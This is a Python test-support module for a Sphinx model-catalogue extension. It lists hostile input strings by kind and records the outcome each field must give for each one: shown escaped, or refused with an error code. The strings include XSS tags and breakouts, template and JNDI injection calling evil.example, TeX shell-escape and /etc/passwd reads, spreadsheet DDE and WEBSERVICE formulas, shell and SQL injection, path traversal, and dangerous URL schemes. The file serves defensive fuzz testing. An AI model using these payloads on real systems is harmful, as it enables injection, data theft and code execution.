r"""Hostile values by kind, and what must come of each in the fields that can be given it.

Every value is a text. As a name (a *string*) and as prose (a *text*) it is shown as it is, or
refused with the code of the problem; what Markdown makes of it is in ``prose``. As an address it is
a link or refused. Fields of other kinds (ids, dates, counts, …) refuse all that is not one.
"""

from __future__ import annotations

import csv
import html
import io
import json
import re
from typing import TYPE_CHECKING, Any, NamedTuple

from babel.messages.pofile import read_po, write_po

from sphinx_modelzoo.schema.model import Model, Variant
from sphinx_modelzoo.schema.shape import Field, shape_of, short_form
from sphinx_modelzoo.yamltext.parsing import MAX_TEXT
from tests.support import ROOT
from tests.support.hostile import Place, as_yaml, places

if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping

EVIL = "https://evil.example/"
"""Where nothing may lead to, and from where nothing may be fetched."""
SHOWN, VALID = "shown", "valid"
NAMES = ("string", "text or number")
"""What fields are called that take any words on one line."""
BOOLEANS = ("true", "no")
"""In quotes: neither booleans nor reasons for ``deprecated``."""


class Value(NamedTuple):
    """A hostile text, and what comes of it by the kind of the field: shown, or a code."""

    text: str
    group: str
    string: str = SHOWN
    prose: str = ""  # the words that Markdown leaves, if not all of them
    link: str = "link.malformed"

    @property
    def as_name(self) -> str:
        """The words of a name: on one line."""
        return " ".join(self.text.split())

    @property
    def as_prose(self) -> str:
        """The words of a text that is shown."""
        return self.prose or self.as_name


_HTML = (
    "<script>evil()</script>", "<ScRiPt>evil()</sCrIpT>", "<script src={e}x.js></script>",
    "<script>evil()//", "<script/x>evil()</script>", "<<script>evil()</script>",
    "<img src=x onerror=evil()>", "<img src={e}x.png>", "<img srcset='{e}x.png 1x'>",
    "<svg onload=evil()>", "<svg><script>evil()</script></svg>",
    "<svg><use href='{e}x.svg#a'/></svg>", "<svg><a xlink:href='javascript:evil()'>x</a></svg>",
    "<math><mtext><script>evil()</script></mtext></math>", "<iframe src={e}></iframe>",
    "<iframe srcdoc='<script>evil()</script>'></iframe>", "<object data={e}></object>",
    "<embed src={e}>", "<base href={e}>", "<link rel=stylesheet href={e}x.css>",
    "<meta http-equiv=refresh content='0;url={e}'>", "<style>@import '{e}x.css';</style>",
    "<style>body{display:none}</style>", "<body onload=evil()>", "<video src={e}x.mp4 autoplay>",
    "<audio src={e}x.mp3 onerror=evil()>", "<details open ontoggle=evil()>",
    "<input autofocus onfocus=evil()>", "<form action={e}><button>x</button></form>",
    "<a href={e}>x</a>", "<a href=javascript:evil()>x</a>", "<b style='position:fixed'>x</b>",
    "<template><img src=x onerror=evil()></template>", "<noscript><img src={e}></noscript>",
    "<marquee onstart=evil()>x</marquee>", "<table background={e}x.png>", "<plaintext>", "<xmp>",
    "<textarea>", "<title>", "<select><option>", "<frameset onload=evil()>", "<isindex>",
    "<x contenteditable onblur=evil()>", "<div id=search class=modelzoo>", "<!DOCTYPE html>",
    "<?xml version=1.0?>", "<![CDATA[<script>evil()</script>]]>", "<!--[if IE]>x<![endif]-->",
)  # fmt: skip
_BREAKOUTS = (
    '"><script>evil()</script>', "'><script>evil()</script>", "`><img src=x onerror=evil()>",
    '" onmouseover="evil()', "' onmouseover='evil()", '" style="position:fixed;inset:0" x="',
    "</script><script>evil()</script>", "</title><script>evil()</script>",
    "</textarea><img src=x onerror=evil()>", "</style><script>evil()</script>",
    "</a></p></div></body></html><script>evil()</script>", "</td></tr></table><h1>x</h1>",
    "</noscript><script>evil()</script>", "--><script>evil()</script>",
    "]]><script>evil()</script>", '");evil();//', "');evil();//", "*/evil();/*",
    '"}];evil();//', "${evil()}", "`;evil();`", '"}}</script><script>evil()</script>',
    "</template><script>evil()</script>", "</svg><script>evil()</script>",
    "</select><script>evil()</script>", "&quot;&gt;&lt;script&gt;evil()",
    "&#60;script&#62;evil()", "&lt;script&gt;evil()&lt;/script&gt;",
)  # fmt: skip
_TEMPLATES = (
    "{{ 7*7 }}", "{% raw %}{{ config }}", "{{ self._TemplateReference__context }}",
    "{{ ''.__class__.__mro__ }}", "{# comment #}", "{{constructor.constructor('evil()')()}}",
    "#{evil()}", "<%= evil() %>", "<?php evil() ?>", "@{evil()}", "{0.__class__}", "%(name)s",
    "%s %d %n %x", "{} {0} {name}", "${jndi:ldap://evil.example/a}", "{@evil}", "[% evil %]",
    "{{> partial }}", "{% include '/etc/passwd' %}", "__MODELZOO__", "{placeholder:x}",
)  # fmt: skip
_TEX = (
    r"\input{/etc/passwd}", r"\include{secret}", r"\openin5=secret", r"\write18{touch broken}",
    r"\immediate\write18{touch broken}", r"\openout5=broken.txt", r"\def\x{\x}\x",
    r"\csname evil\endcsname", r"\catcode`\%=12", r"\loop\iftrue\repeat", r"\end{document}",
    r"\begin{verbatim}", r"\verb|x", r"\href{{e}}{x}", r"\url{{e}}", r"\special{evil}",
    r"\usepackage{shellesc}", r"\ShellEscape{touch broken}", r"\directlua{os.exit()}",
    r"\includegraphics{secret}", r"\label{a}\ref{a}", r"\newcommand{\a}{b}", r"\else\fi",
    r"\iffalse", "^^5cinput{secret}", "^^M^^@", r"\char`\\", r"\makeatletter\@@input secret ",
    r"\hbox to \maxdimen{}", r"\kern\maxdimen", r"\\[99cm]", "~&%#_^$", "#1 #2 ##3", "a & b \\\\ c",
    r"\unicode{x202e}", r"\require{html}\class{a}{b}", r"\(\href{javascript:evil()}{x}\)",
    r"\[\style{position:fixed}{x}\]", r"\begin{equation}\href{{e}}{x}\end{equation}",
    r"\cssId{search}{x}", r"\mmlToken{mi}[href='{e}']{x}", r"\data{a}", r"\texttip{a}{b}",
)  # fmt: skip
_REST = (
    ".. include:: /etc/passwd", ".. raw:: html", ".. csv-table::", ".. literalinclude:: conf.py",
    ".. image:: {e}x.png", ".. only:: html", ".. toctree::", ".. eval:: evil()",
    ".. |x| replace:: y",
    ".. _target: {e}", ".. role:: raw(raw)", ":raw:`x`", ":doc:`index`", ":ref:`search`",
    ":download:`conf.py`", ":math:`x`", ":py:func:`open`", "{eval-rst}", "{include} conf.py",
    "{doc}`index`", "{raw}`<b>`", "|x|", "x_", "`x`_", "`x <{e}>`_", "`x <javascript:evil()>`_",
    "__ {e}", "[1]_", "[#]_", "\\ x", "!!! danger", "??? note", "=== \"tab\"",
    "{: onclick=evil() }",
    "{: #search .modelzoo }", "--8<-- \"conf.py\"", "{++evil++}", "{~~a~>b~~}", "[[wiki]]",
    ":smile:", "==x==", "^x^", "(c) (tm) --> <--", "@evil", "MDX <Evil/>", "<Evil {...x} />",
    "import evil from 'x'", "+++", "%% comment", "% comment", "(target)=", "[TOC]", "[toc]: x",
    "*[HTML]: evil", "Term :", "$ pip install evil", ">>> evil()",
)  # fmt: skip
# What Markdown reads differently: its words.
_MARKDOWN: Mapping[str, str] = {
    "[x](javascript:evil())": "[x](javascript:evil())",
    "[x](JaVaScRiPt:evil())": "[x](JaVaScRiPt:evil())",
    "[x](&#106;avascript:evil())": "[x](javascript:evil())",
    "[x](vbscript:evil())": "[x](vbscript:evil())",
    "[x](data:text/html,evil)": "[x](data:text/html,evil)",
    "[x](file:///etc/passwd)": "[x](file:///etc/passwd)",
    "[x](//evil.example/)": "[x](//evil.example/)",
    "<javascript:evil()>": "<javascript:evil()>",
    "**x**": "x",
    "_x_ y": "x y",
    "`<script>evil()</script>`": "<script>evil()</script>",
    "~~x~~": "~~x~~",
    "&amp;&lt;b&gt;": "&<b>",
    "a\\<script\\>": "a<script>",
    "![x](javascript:evil())": "![x](javascript:evil())",
}
_SHEETS = (
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"{e}\";\"x\")", "=IMPORTXML(\"{e}\";\"//a\")",
    "=WEBSERVICE(\"{e}\")", "@SUM(1+9)*cmd|' /C calc'!A0", "=1+1", "=DDE(\"cmd\";\"x\")",
    "\uff1d1+1", "\uff0b1+1", "\uff0d1", "\uff20SUM(1)", "=A1,=B1", "\"=1+1\"", ";=1+1", "'=1+1",
)  # fmt: skip
_SHELL = (
    "$(touch broken)", "`touch broken` x", "; touch broken", "| touch broken", "&& touch broken",
    "> broken", "$IFS$9", "${PATH}", "%PATH%", "!!", "~root", "' OR 1=1 --", "'; DROP TABLE x;--",
    "() { :;}; touch broken", "../../../../etc/passwd x", "..\\..\\windows", "C:\\x",
    "\\\\evil\\x y",
    "file:///etc/passwd x", "/dev/zero x", "(?:a+)+$", "^(a|a)*$", "a{99999}",
)  # fmt: skip
_NAMES = (
    "__proto__", "constructor", "prototype", "hasOwnProperty", "toString", "valueOf", "then",
    "length", "null", "undefined", "NaN", "true", "None", "con", "nul", "aux", "com1", "index",
    "search", "genindex", "datasets", "models", "objects.inv", "_static", ".git", "...", "@",
    "default", "id", "name", "class", "self", "extra", "modelzoo", "all", "no", "404",
)  # fmt: skip
_UNICODE = (
    "e\u0301\u0301\u0301\u0301 x", "\u0430\u0440\u0440\u04cf\u0435", "a\u200bb", "a\u200db",
    "a\ufeffb", "a\u00adb", "\u0627\u0644\u0639\u0631", "\u05d0\u05d1 a",
    "\U0001f600\u200d\U0001f4a9",
    "\U000e0041\U000e0042", "\u1e9e\u0131\u0130", "\ufb01\ufb02", "\u2126\u212b",
    "\uff1cscript\uff1e",
    "\u2039script\u203a", "\u02bcx\u02bc", "\uff5b\uff5b7*7\uff5d\uff5d", "\u3164", "\u115f",
    "\u17b4", "a\ufe0f", "\U0001f1e8\U0001f1f3", "\u0e01\u0e33" * 9, "\ufdfa", "\U00020000",
)  # fmt: skip
_REVERSED = ("a\u202eb", "\u2066a\u2069", "\u202dx\u202c", "a\u200fb")
_CONTROLS = (
    "a\0b", "\0", "a\x01b", "a\x07b", "a\x08b", "a\x0bb", "a\x0cb", "a\x1b[31mb", "a\x1b]0;x\x07b",
    "a\x7fb", "a\x80b", "a\x85b", "a\x9b0mb", "a\ufdd0b", "a\ufffeb", "a\uffffb", "a\U0001fffeb",
    "a\U0010ffffb", "a\x1fb", "a\x1db",
)  # fmt: skip
_BLANK = ("", " ", "\t", "\n", "\u3000", "\u2003 \u00a0")
_SCHEMES = (
    "javascript:evil()", "JaVaScRiPt:evil(1)", "javascript://evil.example/%0aevil()",
    "vbscript:evil", "data:text/html,evil", "data:image/svg+xml,evil", "file:///etc/passwd",
    "blob:x", "ftp://evil.example/", "ws://evil.example/", "about:blank", "view-source:x",
    "chrome://x", "jar:x", "intent:x", "tel:1", "sms:1", "ssh://evil.example", "git://evil.example",
    "feed:javascript:x", "ms-word:x", "steam:x", "ldap://evil.example", "php://input", "urn:x",
    "magnet:x", "mailtox:a", "httpsx://evil.example", "h-t+t.p:x", "moz-extension://x",
)  # fmt: skip
_HOSTS = (
    "//evil.example/", "///evil.example", "https:evil.example", "https:/evil.example", "https://",
    "http://[", "http://[::1", "http://[bad]/", "https://a b/", "https://evil.example:99999/",
    "https://evil.example:-1/", "https://a..b/", "https://" + "a" * 64 + ".org/",
    "https://x\"onclick=evil()", "https://<script>", "https://`evil`", "https://{x}/",
    "https://a|b/", "https://a^b/", "\\\\evil.example\\x", "http\uff1a//evil.example",
    "git@evil.example:a/b", "[x] (https://evil.example)", "https://.", "https://%/", "doc:../../x",
    "doc:", "model:A B", "model:../x", "leaderboard:", "doc:/etc/passwd", "model:<x>",
)  # fmt: skip


def _values() -> Iterator[Value]:
    filled = {
        "html": _HTML, "breakout": _BREAKOUTS, "template": _TEMPLATES, "tex": _TEX, "rest": _REST,
        "sheet": _SHEETS, "shell": _SHELL,
    }  # fmt: skip
    number = 0
    for group, texts in filled.items():
        for text in texts:
            # A mark makes each of them something that can be found and counted.
            words = text.replace("{e}", EVIL)
            yield Value(f"{words} q{number}q", group)
            number += 1
    for text, prose in _MARKDOWN.items():
        yield Value(f"{text} q{number}q", "markdown", prose=f"{prose} q{number}q")
        number += 1
    for group, texts in {"unicode": _UNICODE, "reversed": _REVERSED}.items():
        for text in texts:
            yield Value(f"{text} q{number}q", group)
            number += 1
    for text in _NAMES:
        yield Value(text, "name", link=SHOWN)  # a relative path
    for text in _CONTROLS:
        yield Value(text, "control", "text.control", link="text.control")
    for text in _BLANK:
        yield Value(text, "blank", "text.blank", link="text.blank")
    for text in _SCHEMES:
        yield Value(text, "scheme", link="link.scheme")
    for text in _HOSTS:
        yield Value(text, "host")
    for text in ("a" * (MAX_TEXT + 1), "模" * (MAX_TEXT + 1)):
        yield Value(text, "size", "yaml.text-size", link="yaml.text-size")


VALUES = tuple(_values())


def field_of(path: tuple[str | int, ...]) -> Field:
    """The field of the schema at a path in an entry; of a short form, what it is short for."""
    record: Any = Model
    found: Field | None = None
    for part in path:
        if not isinstance(part, int) and part in shape_of(record):
            found = shape_of(record)[part]
            record = found.record or record
    assert found is not None
    short = short_form(found.record) if found.record else None
    return shape_of(found.record)[short] if short else found


_ID = re.compile(r"[a-z0-9]{1,64}|(?=.{1,64}\Z)[a-z0-9]+(?:-[a-z0-9]+)*")


def outcome(place: Place, value: Value) -> str:
    """What a value of a field must become: shown, the code of a problem, or any problem."""
    field = field_of(place.path)
    named = (place.kind == "map" and field.name != "extra") or field.words in NAMES
    if value.group in ("control", "blank", "size"):
        return value.string if named or field.kind in ("text", "link") else ""
    if field.name in ("task", "tasks"):
        return "task.unknown"
    if field.name == "deprecated" and value.text in BOOLEANS:
        return "type"
    if field.words == "id or address" and not re.match("https?:", value.text):
        return SHOWN if _ID.fullmatch(value.text) else "base-model.malformed"
    if field.kind == "link" or field.name == "extra":
        return value.link if field.kind == "link" else "own.undeclared"
    if named or field.kind == "text":
        return SHOWN
    known = {
        "id": _ID,
        "language": _LANGUAGE,
        "count": _NUMBER,
        "file size": _NUMBER,
        "version": _VERSION,
    }
    valid = known.get(field.words)
    return VALID if valid is not None and valid.fullmatch(value.text) else ""


_LANGUAGE = re.compile("[a-z]{2,3}", re.IGNORECASE)  # of the names: languages of this world
_NUMBER = re.compile("[0-9]+")
_VERSION = re.compile("[^\"'“”‘’]{1,64}")
_OPEN = ("string", "text", "link")  # kinds of fields that take many values, and get all


def attacks(stride: int) -> Iterator[tuple[Place, Value]]:
    """Every field with a value of every group, and every value with a field of every kind.

    :param stride: how many fields share the values of a group.
    """
    groups: dict[str, list[Value]] = {}
    for value in VALUES:
        groups.setdefault(value.group, []).append(value)
    large = groups.pop("size")  # each is as long as all others: once in a field of a kind
    kinds: dict[str, list[Place]] = {}
    for place in places():
        kinds.setdefault(kind_of(place), []).append(place)
    for kind, found in kinds.items():
        step = min(stride, len(found)) if kind in _OPEN else stride
        for number, place in enumerate(found):
            for values in groups.values():
                start = number % step % len(values)
                yield from ((place, one) for one in values[start::step])
        if kind in _OPEN:
            yield from ((found[0], one) for one in large)


def kind_of(place: Place) -> str:
    """The kind of a field; of plain values, what they are."""
    field = field_of(place.path)
    return field.words if field.kind == "value" else field.kind


# Whole projects -------------------------------------------------------------------------------

OK = "https://ok.example/"
"""Where links may lead."""
_PER_PAGE = 60
SHOWN_VALUES = tuple(one for one in VALUES if one.string == SHOWN and one.text not in BOOLEANS)


def _filled(record: Any, text: str) -> dict[str, Any]:
    """A record of the schema with a text in all names and texts, and addresses that are right."""
    found: dict[str, Any] = {}
    for name, field in shape_of(record).items():
        value: Any = None
        if name in ("task", "tasks", "silence", "aliases", "variants", "extra"):
            continue
        if field.kind == "record":
            value = _filled(field.record, text)
        elif field.kind == "text" or field.words in NAMES:
            value = text
        elif field.kind == "link":
            value = "a.png" if name in ("src", "dark") else f"{OK}{name}"
        elif field.required and field.words == "number":
            value = 1
        if value is not None:
            many = field.many
            found[name] = {text: value} if many == "mapping" else [value] if many else value
    return found


def groups() -> list[tuple[str, tuple[Value, ...]]]:
    """The ids of the entries of :func:`catalog`, with the values of each.

    The last one is harmless, and in the same fields: as often as it is shown, all must be.
    """
    parts = [SHOWN_VALUES[at : at + _PER_PAGE] for at in range(0, len(SHOWN_VALUES), _PER_PAGE)]
    return [
        (f"g{number}", (*values, Value(f"Harmless words p{number}p", "plain")))
        for number, values in enumerate(parts)
    ]


def catalog() -> str:
    """A catalog with every value in every field of a variant, and some in entry and head.

    Terms, own fields with their values, and presets have hostile labels, too.
    """
    hostile = iter(SHOWN_VALUES[::7])
    head: dict[str, Any] = {
        "title": next(hostile).text,
        "tasks": [{"id": "evil-task", "en": next(hostile).text, "zh": next(hostile).text}],
        "datasets": [{"id": "evil-set", "en": next(hostile).text}],
        "metrics": [{"id": "evil-metric", "en": next(hostile).text}],
        "fields": {
            f"own_{kind}": {
                "type": kind,
                "facet": kind != "link",
                "labels": next(hostile).text,
                "description": next(hostile).text,
            }
            for kind in ("number", "boolean", "date", "link")
        },
        "presets": {
            "evil": {"columns": [{one: next(hostile).text} for one in ("name", "tags", "own_text")]}
        },
    }
    head["fields"]["own_number"]["unit"] = next(hostile).text
    values = [{"id": f"v{at}", "en": next(hostile).text} for at in range(4)]
    head["fields"]["own_text"] = {"type": "text", "many": True, "labels": "Own"}
    head["fields"]["own_choice"] = {"type": "text", "facet": True, "values": values}
    lines = [f"{name}: {as_yaml(value)}" for name, value in head.items()]
    lines.append("models:")
    own = {
        "own_number": 5, "own_boolean": True, "own_date": "2024-01-01", "own_link": f"{OK}own",
        "own_choice": "v1",
    }  # fmt: skip
    for name, values_of_page in groups():
        entry = {
            "id": name,
            **_filled(Model, values_of_page[0].text),
            "aliases": [one.text for one in values_of_page],
            "tasks": ["evil-task"],
            "links": ["doc:index", "model:g0"],
            "extra": {**own, "own_text": [one.text for one in values_of_page]},
            "variants": [
                {"id": f"v{at}", **_filled(Variant, one.text)}
                for at, one in enumerate(values_of_page)
            ],
        }
        lines.append(f"- {as_yaml(entry)}")
    return "\n".join(lines) + "\n"


def plugin() -> str:
    """A plugin that returns the values, in a column, a section and a fact."""
    texts = [one.text for one in SHOWN_VALUES[::20]]
    return f"""\
from sphinx_modelzoo.api import bullets, code, column, fact, link, paragraph, section, table
from sphinx_modelzoo.api import words

TEXTS = {texts!r}


@column("evil", TEXTS[0], "A column.")
def cell(subject, context):
    return TEXTS[len(subject.model.id) % len(TEXTS)]


@fact("evil", TEXTS[1])
def evil(page):
    return TEXTS[2]


@section("evil", TEXTS[3])
def all_of_them(page):
    for text in TEXTS:
        yield paragraph(text, link(text, "{OK}"), words(text, code=True))
    yield bullets(*TEXTS)
    yield table(TEXTS[:3], [(one, one, one) for one in TEXTS])
    yield code(TEXTS[4])
"""


def labels() -> str:
    """All labels of the package with markup in each, as a project's own words."""
    with (ROOT / "sphinx_modelzoo/locale/zh_CN/LC_MESSAGES/sphinx_modelzoo.po").open("rb") as file:
        found = read_po(file)
    for message in found:
        if message.id and isinstance(message.id, str):
            message.string = f"<b onclick=evil()>{message.id}"
        elif message.id:
            message.string = tuple(f"<b onclick=evil()>{one}" for one in message.id)
    out = io.BytesIO()
    write_po(out, found)
    return out.getvalue().decode()


def sources() -> dict[str, str]:
    """Files to import, by their endings, with a value of every group in their cells."""
    chosen = {one.group: one.as_name for one in SHOWN_VALUES}

    def rows(kind: str) -> list[tuple[str, str]]:
        return [(f"{kind}{at} {text}", text) for at, text in enumerate(chosen.values())]

    out = io.StringIO()
    csv.writer(out).writerows([("Model", "Note"), *rows("csv")])
    cells = "".join(
        f"<tr><td>{html.escape(name)}<td>{html.escape(note)}" for name, note in rows("html")
    )
    lines = [re.sub(r"[|`\\\\]", "", f"{name}~{note}") for name, note in rows("md")]
    return {
        "csv": out.getvalue(),
        "html": f"<table><tr><th>Model<th>Note{cells}</table>",
        "json": json.dumps([{"name": name, "summary": note} for name, note in rows("json")]),
        "md": "| Model | Note |\n|---|---|\n"
        + "".join(f"| {one.replace('~', ' | ', 1)} |\n" for one in lines),
    }
